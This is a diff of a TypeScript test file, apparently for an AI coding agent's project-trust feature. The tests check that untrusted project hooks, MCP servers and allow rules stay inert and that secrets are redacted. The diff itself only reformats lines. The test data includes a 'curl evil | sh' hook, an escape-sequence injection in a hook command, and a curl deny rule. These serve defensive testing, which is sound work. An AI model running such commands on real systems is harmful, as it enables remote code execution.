@@ -19,7 +19,12 @@ import {
 import type {CheckedTier} from '../../../src/core/config/tier-check.js'
 import {untrustedForPlugins} from '../../../src/core/config/trust-review.js'
 
-const tier = (name: CheckedTier['tier'], data: Record<string, unknown>): CheckedTier => ({data: structuredClone(data), file: `/${name}.json`, tier: name, warnings: []})
+const tier = (name: CheckedTier['tier'], data: Record<string, unknown>): CheckedTier => ({
+  data: structuredClone(data),
+  file: `/${name}.json`,
+  tier: name,
+  warnings: [],
+})
 const digestOf = (project: Record<string, unknown>, local: Record<string, unknown> = {}) =>
   trustDigest(settingsNeedingTrust([tier('user', {}), tier('project', project), tier('local', local)]))
 
@@ -47,7 +52,11 @@ const PROJECT = {
 
 describe('what needs trust, and its digest', () => {
   it('takes hooks, servers that do more than turn off, and the rules up to the last allow', () => {
-    const settings = settingsNeedingTrust([tier('user', {hooks: [HOOK]}), tier('project', PROJECT), tier('local', {model: 'x', permissions: {fs_grep: 'prompt'}})])
+    const settings = settingsNeedingTrust([
+      tier('user', {hooks: [HOOK]}),
+      tier('project', PROJECT),
+      tier('local', {model: 'x', permissions: {fs_grep: 'prompt'}}),
+    ])
     expect(settings).toEqual({
       project: {
         hooks: [{...HOOK, fail_open: false, timeout_ms: 5000, tool_pattern: '*'}],
@@ -61,7 +70,14 @@ describe('what needs trust, and its digest', () => {
   })
 
   it('has no digest when nothing needs trust: deny and prompt rules, turning a server off, other settings', () => {
-    expect(digestOf({mcp_servers: {gh: {disabled: true}}, model: 'm', permissions: {'exec(*)': 'deny', fs_read: 'prompt'}, sandbox: {mode: 'off'}})).toBeUndefined()
+    expect(
+      digestOf({
+        mcp_servers: {gh: {disabled: true}},
+        model: 'm',
+        permissions: {'exec(*)': 'deny', fs_read: 'prompt'},
+        sandbox: {mode: 'off'},
+      }),
+    ).toBeUndefined()
   })
 
   it('keeps the digest when settings that need no trust change, or key order does', () => {
@@ -100,7 +116,10 @@ describe('applyProjectTrust', () => {
     const port = memoryPort()
     const checked = tiers()
     const {trust, warnings} = await applyProjectTrust(checked, '/repo', port)
-    expect(trust).toMatchObject({inert: {allowRules: ['exec(git *)', 'fs_write'], hooks: 2, mcpServers: ['fs', 'gh']}, status: 'untrusted'})
+    expect(trust).toMatchObject({
+      inert: {allowRules: ['exec(git *)', 'fs_write'], hooks: 2, mcpServers: ['fs', 'gh']},
+      status: 'untrusted',
+    })
     expect(checked[1].data).toEqual({
       // Turning the user's server off needs no trust; the project's command for it does.
       mcp_servers: {gh: {disabled: true}},
@@ -112,7 +131,8 @@ describe('applyProjectTrust', () => {
     expect(warnings).toEqual([
       {
         file: join('/repo', '.hanzo'),
-        message: 'ignored: 2 hooks, MCP servers "fs", "gh", 2 allow rules (this project is not trusted); run "hanzo-dev trust" to review and trust them',
+        message:
+          'ignored: 2 hooks, MCP servers "fs", "gh", 2 allow rules (this project is not trusted); run "hanzo-dev trust" to review and trust them',
       },
     ])
     expect(port.notices).toEqual([trust.digest])
@@ -125,7 +145,10 @@ describe('applyProjectTrust', () => {
   it('applies everything once trusted, and says once that changed settings are left out again', async () => {
     const {digest} = settingsDigest(tiers())
     const trusted = await applyProjectTrust(tiers(), '/repo', memoryPort({trusted: {at: 'then', digest}}))
-    expect(trusted).toMatchObject({trust: {inert: {allowRules: [], hooks: 0, mcpServers: []}, status: 'trusted'}, warnings: []})
+    expect(trusted).toMatchObject({
+      trust: {inert: {allowRules: [], hooks: 0, mcpServers: []}, status: 'trusted'},
+      warnings: [],
+    })
 
     const edited = tiers()
     ;(edited[2].data.hooks as Array<{command: string}>)[0].command = 'curl evil | sh'
@@ -138,8 +161,15 @@ describe('applyProjectTrust', () => {
   })
 
   it('needs no trust, and asks the store nothing, when nothing needs it', async () => {
-    const port = {lookup: () => Promise.reject(new Error('not asked')), noteNoticed: () => Promise.reject(new Error('not asked'))}
-    const {trust, warnings} = await applyProjectTrust([tier('project', {model: 'm', permissions: {'exec(*)': 'deny'}})], '/repo', port)
+    const port = {
+      lookup: () => Promise.reject(new Error('not asked')),
+      noteNoticed: () => Promise.reject(new Error('not asked')),
+    }
+    const {trust, warnings} = await applyProjectTrust(
+      [tier('project', {model: 'm', permissions: {'exec(*)': 'deny'}})],
+      '/repo',
+      port,
+    )
     expect(trust.status).toBe('not-needed')
     expect(warnings).toEqual([])
   })
@@ -149,15 +179,38 @@ describe('applyProjectTrust', () => {
     const port = memoryPort()
     const alone = await applyProjectTrust([tier('project', {model: 'm'})], '/repo', port, agents)
     expect(alone.trust).toMatchObject({inert: {agents: ['reviewer.md']}, status: 'untrusted'})
-    expect(alone.warnings[0].message).toBe('ignored: 1 agent file in .hanzo/agents (this project is not trusted); run "hanzo-dev trust" to review and trust them')
-    expect(untrustedForPlugins(alone.trust)).toEqual({agents: ['reviewer.md'], hooks: [], mcp_servers: {}, status: 'untrusted'})
+    expect(alone.warnings[0].message).toBe(
+      'ignored: 1 agent file in .hanzo/agents (this project is not trusted); run "hanzo-dev trust" to review and trust them',
+    )
+    expect(untrustedForPlugins(alone.trust)).toEqual({
+      agents: ['reviewer.md'],
+      hooks: [],
+      mcp_servers: {},
+      status: 'untrusted',
+    })
 
     const digest = alone.trust.digest as string
-    const trusted = await applyProjectTrust([tier('project', {model: 'm'})], '/repo', memoryPort({trusted: {at: 'then', digest}}), agents)
+    const trusted = await applyProjectTrust(
+      [tier('project', {model: 'm'})],
+      '/repo',
+      memoryPort({trusted: {at: 'then', digest}}),
+      agents,
+    )
     expect(trusted.trust.status).toBe('trusted')
     expect(untrustedForPlugins(trusted.trust)).toBeUndefined()
-    const edited = projectAgents([{name: 'reviewer.md', text: '---\nname: reviewer\npermission_mode: allow-all\n---\nReview.'}])
-    expect((await applyProjectTrust([tier('project', {model: 'm'})], '/repo', memoryPort({trusted: {at: 'then', digest}}), edited)).trust.status).toBe('changed')
+    const edited = projectAgents([
+      {name: 'reviewer.md', text: '---\nname: reviewer\npermission_mode: allow-all\n---\nReview.'},
+    ])
+    expect(
+      (
+        await applyProjectTrust(
+          [tier('project', {model: 'm'})],
+          '/repo',
+          memoryPort({trusted: {at: 'then', digest}}),
+          edited,
+        )
+      ).trust.status,
+    ).toBe('changed')
     // Without agent files the digest is the settings' own: what was trusted before stays trusted.
     expect(trustDigest(settingsNeedingTrust(tiers()), {})).toBe(settingsDigest(tiers()).digest)
   })
@@ -185,8 +238,14 @@ describe('loadConfig with a trust store', () => {
     mkdirSync(join(repo, '.git'), {recursive: true})
     mkdirSync(join(repo, '.hanzo'))
     mkdirSync(join(dir, '.config', 'hanzo'), {recursive: true})
-    writeFileSync(join(dir, '.config', 'hanzo', 'settings.json'), JSON.stringify({permissions: {'exec(npm *)': 'prompt'}}))
-    writeFileSync(join(repo, '.hanzo', 'settings.json'), JSON.stringify({hooks: [HOOK], permissions: {'exec(curl *)': 'deny', 'exec(npm *)': 'allow'}}))
+    writeFileSync(
+      join(dir, '.config', 'hanzo', 'settings.json'),
+      JSON.stringify({permissions: {'exec(npm *)': 'prompt'}}),
+    )
+    writeFileSync(
+      join(repo, '.hanzo', 'settings.json'),
+      JSON.stringify({hooks: [HOOK], permissions: {'exec(curl *)': 'deny', 'exec(npm *)': 'allow'}}),
+    )
     const loaded = await loadConfig({cwd: repo, env: {HOME: dir}, homedir: dir, io: nodeConfigIO, trust: memoryPort()})
     expect(loaded.config.hooks).toEqual([])
     expect(loaded.config.permissions).toEqual({'exec(curl *)': 'deny', 'exec(npm *)': 'prompt'})
@@ -195,7 +254,9 @@ describe('loadConfig with a trust store', () => {
       ['exec(npm *)', 'prompt', 'user'],
     ])
     expect(loaded.origins['hooks.0.command']).toBeUndefined()
-    expect(loaded.warnings.map((w) => w.message)).toEqual([expect.stringContaining('1 hook, 1 allow rule (this project is not trusted)')])
+    expect(loaded.warnings.map((w) => w.message)).toEqual([
+      expect.stringContaining('1 hook, 1 allow rule (this project is not trusted)'),
+    ])
   })
 })
 
@@ -203,7 +264,11 @@ describe('the trust review', () => {
   it('keeps each entry on one line, shown and not obeyed, so a project cannot fake another entry', () => {
     const hook = {command: 'true\n    exec(*): deny\u001B]0;safe\u0007', event: 'stop', tool_pattern: '*'}
     const review = reviewTrust({project: {hooks: [hook], mcp_servers: {}, permissions: []}})
-    const lines = renderTrustReview(review, {local: '/r/.hanzo/settings.local.json', project: '/r/.hanzo/settings.json'}, {dir: '/r/.hanzo/agents', files: ['a\nb.md']})
+    const lines = renderTrustReview(
+      review,
+      {local: '/r/.hanzo/settings.local.json', project: '/r/.hanzo/settings.json'},
+      {dir: '/r/.hanzo/agents', files: ['a\nb.md']},
+    )
     expect(lines).toEqual([
       '/r/.hanzo/settings.json:',
       '  hooks (shell commands run around tool calls and session events):',
@@ -220,21 +285,48 @@ describe('the trust review', () => {
         hooks: [],
         mcp_servers: {
           api: {env: {LOG: 'debug'}, headers: {'X-Team': 'a'}, url: 'https://mcp.example.com/sse/tok-123?key=s'},
-          cli: {args: ['--token', 'tok-1', '--api-key=tok-2', 'API_TOKEN=tok-3', 'https://u:pw@h/x', '--port', '8080'], command: ['node', 'srv.js']},
+          cli: {
+            args: ['--token', 'tok-1', '--api-key=tok-2', 'API_TOKEN=tok-3', 'https://u:pw@h/x', '--port', '8080'],
+            command: ['node', 'srv.js'],
+          },
           line: {command: 'SECRET=tok-4 npx srv --password tok-5 --dir .'},
         },
         permissions: [['exec(npm test)', 'allow']],
       },
-      project: {hooks: [{command: 'curl -H "Authorization: Bearer x" https://h', event: 'stop', tool_pattern: '*'}], mcp_servers: {}, permissions: []},
+      project: {
+        hooks: [{command: 'curl -H "Authorization: Bearer x" https://h', event: 'stop', tool_pattern: '*'}],
+        mcp_servers: {},
+        permissions: [],
+      },
     })
     expect(review.find((r) => r.tier === 'local')?.mcp_servers).toEqual({
-      api: {env: {LOG: REDACTED}, headers: {'X-Team': REDACTED}, url: `https://mcp.example.com/${REDACTED}/${REDACTED}?${REDACTED}`},
-      cli: {args: ['--token', REDACTED, `--api-key=${REDACTED}`, `API_TOKEN=${REDACTED}`, `https://${REDACTED}@h/${REDACTED}`, '--port', '8080'], command: ['node', 'srv.js']},
+      api: {
+        env: {LOG: REDACTED},
+        headers: {'X-Team': REDACTED},
+        url: `https://mcp.example.com/${REDACTED}/${REDACTED}?${REDACTED}`,
+      },
+      cli: {
+        args: [
+          '--token',
+          REDACTED,
+          `--api-key=${REDACTED}`,
+          `API_TOKEN=${REDACTED}`,
+          `https://${REDACTED}@h/${REDACTED}`,
+          '--port',
+          '8080',
+        ],
+        command: ['node', 'srv.js'],
+      },
       line: {command: `SECRET=${REDACTED} npx srv --password ${REDACTED} --dir .`},
     })
-    const text = renderTrustReview(review, {local: '/r/.hanzo/settings.local.json', project: '/r/.hanzo/settings.json'}).join('\n')
+    const text = renderTrustReview(review, {
+      local: '/r/.hanzo/settings.local.json',
+      project: '/r/.hanzo/settings.json',
+    }).join('\n')
     expect(text).toContain('stop (tools: *): curl -H "Authorization: Bearer x" https://h')
-    expect(text).toContain(`api: https://mcp.example.com/${REDACTED}/${REDACTED}?${REDACTED}  (env: LOG; headers: X-Team)`)
+    expect(text).toContain(
+      `api: https://mcp.example.com/${REDACTED}/${REDACTED}?${REDACTED}  (env: LOG; headers: X-Team)`,
+    )
     expect(text).toContain('exec(npm test): allow')
     expect(text).not.toMatch(/tok-\d/)
   })
@@ -242,8 +334,16 @@ describe('the trust review', () => {
 
 describe('what plugins are told of an untrusted project', () => {
   const settings = {
-    local: {hooks: [{...HOOK, tier: 'x'}], mcp_servers: {fs: {env: {TOKEN: 'tok-1'}, url: 'https://mcp.example.com/tok-2'}}, permissions: []},
-    project: {hooks: [{command: 'exit 2', event: 'stop'}], mcp_servers: {fs: {args: ['--token', 'tok-3'], command: 'npx'}, gh: {command: 'gh-mcp'}}, permissions: []},
+    local: {
+      hooks: [{...HOOK, tier: 'x'}],
+      mcp_servers: {fs: {env: {TOKEN: 'tok-1'}, url: 'https://mcp.example.com/tok-2'}},
+      permissions: [],
+    },
+    project: {
+      hooks: [{command: 'exit 2', event: 'stop'}],
+      mcp_servers: {fs: {args: ['--token', 'tok-3'], command: 'npx'}, gh: {command: 'gh-mcp'}},
+      permissions: [],
+    },
   }
 
   it('gives its hooks and servers shaped like the merged settings, tagged with their tier, secrets redacted', () => {
@@ -253,14 +353,23 @@ describe('what plugins are told of an untrusted project', () => {
         {...HOOK, tier: 'local'},
       ],
       // The local url replaces the project's command and args, as the merge would.
-      mcp_servers: {fs: {env: {TOKEN: REDACTED}, tier: 'local', url: `https://mcp.example.com/${REDACTED}`}, gh: {command: 'gh-mcp', tier: 'project'}},
+      mcp_servers: {
+        fs: {env: {TOKEN: REDACTED}, tier: 'local', url: `https://mcp.example.com/${REDACTED}`},
+        gh: {command: 'gh-mcp', tier: 'project'},
+      },
       status: 'changed',
     })
     expect(JSON.stringify(untrustedForPlugins({settings, status: 'untrusted'}))).not.toMatch(/tok-\d/)
   })
 
   it('tells nothing when everything applies, or when only allow rules were left out', () => {
-    for (const status of ['trusted', 'not-needed', 'unchecked'] as const) expect(untrustedForPlugins({settings, status})).toBeUndefined()
-    expect(untrustedForPlugins({settings: {project: {hooks: [], mcp_servers: {}, permissions: [['fs_write', 'allow']]}}, status: 'untrusted'})).toBeUndefined()
+    for (const status of ['trusted', 'not-needed', 'unchecked'] as const)
+      expect(untrustedForPlugins({settings, status})).toBeUndefined()
+    expect(
+      untrustedForPlugins({
+        settings: {project: {hooks: [], mcp_servers: {}, permissions: [['fs_write', 'allow']]}},
+        status: 'untrusted',
+      }),
+    ).toBeUndefined()
   })
 })
